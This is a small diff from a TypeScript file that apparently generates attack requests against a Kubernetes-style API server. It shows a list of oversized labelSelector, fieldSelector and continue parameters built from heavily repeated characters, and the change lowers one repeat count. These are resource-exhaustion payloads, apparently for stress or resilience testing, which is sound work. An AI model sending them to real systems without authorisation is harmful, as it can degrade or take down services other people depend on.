@@ -60,7 +60,7 @@ const watchesAtTheEnd = (credentials: Credentials): Attack =>
 const parameters = [
   `labelSelector=${"a!%3Db%2C".repeat(30_000)}`,
   `labelSelector=a+in+(${"x%2C".repeat(16_000)}y)`,
-  `fieldSelector=${"metadata.name!%3Db%2C".repeat(14_000)}`,
+  `fieldSelector=${"metadata.name!%3Db%2C".repeat(999)}`,
   `labelSelector=${"(".repeat(100_000)}`,
   `fieldSelector=${"%5C".repeat(90_000)}`,
   `continue=${"e".repeat(300_000)}`,
